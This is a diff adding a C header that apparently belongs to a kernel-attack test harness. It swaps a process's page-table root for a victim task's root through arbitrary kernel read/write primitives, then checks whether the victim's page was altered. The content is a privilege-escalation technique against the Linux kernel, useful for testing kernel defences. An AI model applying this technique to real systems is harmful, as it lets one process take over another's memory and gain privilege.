@@ -1,0 +1,63 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * bent_root.h - a program replaces the root in its address space by that of a program of root, and
+ * does something to its own page MEMORY: it is done to what root's program has there. The victim
+ * looks again and again, and says when it is changed.
+ */
+#pragma once
+#include "attack.h"
+
+#define PAGE 4096
+#define CHANGED "/tmp/changed"
+
+static volatile char memory[PAGE] __attribute__((aligned(PAGE)));
+
+static bool control(void)
+{
+	return is_ordinary();
+}
+
+static inline uint64_t space_root(void)
+{
+	return peek(own_task() + member("task.space")) + member("address_space.root");
+}
+
+/* Alone on its processor: nothing may switch while the root is another's. Returns its own. */
+static uint64_t bend_root(void)
+{
+	const uint64_t other = own_root(victim_task(own_task())), place = space_root();
+	const uint64_t own = peek(place);
+
+	(void)own_cpu(1);
+	sleep_milliseconds(100); /* the victim is ready */
+	poke(place, other);
+	return own;
+}
+
+/* The victim has two seconds to say so. */
+static bool is_changed(void)
+{
+	for (int i = 0; i < 200; i++) {
+		if (call3(__NR_open, (long)CHANGED, O_RDONLY, 0) >= 0)
+			return true;
+		sleep_milliseconds(10);
+	}
+	return false;
+}
+
+static inline void say_changed(void)
+{
+	call3(__NR_open, (long)CHANGED, O_CREAT | O_RDWR, 0644);
+}
+
+/* A victim that has written to its page, and reads what it wrote. */
+static inline void victim_reads(void)
+{
+	(void)own_cpu(0);
+	memory[0] = 'V';
+	for (;;) {
+		if (memory[0] != 'V')
+			say_changed();
+		sleep_milliseconds(5);
+	}
+}
